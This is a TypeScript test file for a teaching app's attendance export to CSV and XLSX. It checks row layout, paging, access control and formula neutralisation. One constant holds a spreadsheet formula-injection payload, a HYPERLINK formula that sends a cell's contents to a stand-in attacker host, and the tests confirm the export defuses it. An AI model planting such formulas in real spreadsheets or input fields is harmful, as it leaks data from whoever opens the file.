import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { expect, it } from 'vitest';
import { NotFoundOrNoAccess } from '../errors.ts';
import { messages } from '../i18n/index.ts';
import { describeEachDatabase } from '../testing/databases.ts';
import { actorOf, enrol, makeRun, makeUser } from '../testing/factories.ts';
import { TestBrowser, testApp } from '../testing/http.ts';
import { teacherSaves } from '../testing/teacher-saves.ts';
import { getRunExport, runExportColumns } from './run-export.ts';

const HOSTILE_COMMENT = '=HYPERLINK("http://evil.example/?"&A1,"Klik")';

async function collect<T>(rows: AsyncIterable<T>): Promise<T[]> {
  const all: T[] = [];
  for await (const row of rows) all.push(row);
  return all;
}

describeEachDatabase('run export', (store) => {
  const db = () => store().db;

  async function setUp() {
    const teacher = await makeUser(db(), ['teacher']);
    const run = await makeRun(db(), { teacherId: teacher.id, meetingDays: [-14, -7, 7], points: 1.5 });
    // The first meeting on the Sunday summer time starts: 09:00 in Brussels is 07:00 UTC.
    await db().updateTable('meetings').set({ starts_at: '2026-03-29T07:00:00.000Z', ends_at: '2026-03-29T10:00:00.000Z' }).where('id', '=', run.meetings[0]!.id).execute();
    const ann = await makeUser(db(), ['participant'], 'Ann Αλέξανδρος');
    const bob = await makeUser(db(), ['participant'], '@Bob');
    const annE = await enrol(db(), run, ann.id);
    await enrol(db(), run, bob.id, { status: 'withdrawn_valid', withdrawnOn: '2026-01-05' });
    await teacherSaves(db(), teacher, run.id, annE.id, { present: true, meetingIds: [run.meetings[0]!.id], effort: 'good', effortComment: HOSTILE_COMMENT });
    return { teacher, run, ann, bob };
  }

  it('gives one line per participant and meeting, with what the participants page shows', async () => {
    const { teacher, run } = await setUp();
    const { rows } = await getRunExport(db(), actorOf(teacher), run.id);
    const lines = await collect(rows);
    expect(lines.map((l) => [l.name, l.meetingStartsAt, l.attendance, l.points])).toEqual([
      ['@Bob', '2026-03-29T07:00:00.000Z', null, null],
      ['@Bob', run.meetings[1]!.starts_at, null, null],
      ['@Bob', run.meetings[2]!.starts_at, null, null],
      ['Ann Αλέξανδρος', '2026-03-29T07:00:00.000Z', 'present', 1.5],
      ['Ann Αλέξανδρος', run.meetings[1]!.starts_at, null, null],
      ['Ann Αλέξανδρος', run.meetings[2]!.starts_at, null, null],
    ]);
    expect(lines[0]).toMatchObject({ status: 'withdrawn_valid', withdrawnOn: '2026-01-05' });
    expect(lines[3]).toMatchObject({ status: 'enrolled', effort: 'good', effortComment: HOSTILE_COMMENT });
  });

  it('reads the attendance a page of participants at a time and places each record on its own line', async () => {
    const { teacher, run } = await setUp();
    const whole = await collect((await getRunExport(db(), actorOf(teacher), run.id)).rows);
    const paged = await collect((await getRunExport(db(), actorOf(teacher), run.id, { pageSize: 1 })).rows);
    expect(paged).toEqual(whole);
    expect(paged.filter((l) => l.attendance === 'present').map((l) => [l.name, l.meetingStartsAt])).toEqual([['Ann Αλέξανδρος', '2026-03-29T07:00:00.000Z']]);
  });

  it('is only for the run’s teachers and administrators', async () => {
    const { run, ann } = await setUp();
    const other = await makeUser(db(), ['teacher']);
    await expect(getRunExport(db(), actorOf(other), run.id)).rejects.toBeInstanceOf(NotFoundOrNoAccess);
    await expect(getRunExport(db(), actorOf({ id: ann.id, roles: ['participant'] }), run.id)).rejects.toBeInstanceOf(NotFoundOrNoAccess);
    const admin = await makeUser(db(), ['admin']);
    expect(await collect((await getRunExport(db(), actorOf(admin), run.id)).rows)).toHaveLength(6);
  });

  it('downloads as CSV (BOM, ";", labels in Dutch, formulas neutralised) and as typed XLSX', async () => {
    const { teacher, run } = await setUp();
    const browser = await TestBrowser.signedIn(testApp(store()), store(), teacher.id);
    const nl = messages('nl');

    const csv = await browser.get(`/teacher/runs/${run.id}/export.csv`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="uitvoering-R-[\w-]+\.csv"$/);
    const bytes = Buffer.from(await csv.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records: string[][] = parse(bytes, { bom: true, delimiter: ';' });
    expect(records[0]).toEqual(runExportColumns(nl).map((c) => c.header));
    expect(records[1]).toEqual(["'@Bob", expect.stringMatching(/@example\.test$/), 'Uitgeschreven met geldige reden', '', '', '2026-01-05', '2026-03-29 09:00', 'Gent', 'niet geregistreerd', '']);
    expect(records[4]).toEqual(['Ann Αλέξανδρος', expect.any(String), 'Ingeschreven', 'Goed', `'${HOSTILE_COMMENT}`, '', '2026-03-29 09:00', 'Gent', 'aanwezig', '1,5']);

    const xlsx = await browser.get(`/teacher/runs/${run.id}/export.xlsx`);
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await buffer(xlsx.body!)) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const ann = sheet.getRow(5);
    expect(ann.getCell(1).value).toBe('Ann Αλέξανδρος');
    expect(ann.getCell(5).value).toBe(HOSTILE_COMMENT);
    expect(ann.getCell(5).type).toBe(ExcelJS.ValueType.String);
    expect(ann.getCell(7).value).toEqual(new Date('2026-03-29T09:00:00Z'));
    expect(ann.getCell(10).value).toBe(1.5);
    expect(sheet.getRow(2).getCell(6).value).toEqual(new Date('2026-01-05T00:00:00Z'));
    expect(sheet.rowCount).toBe(7);
  });
});
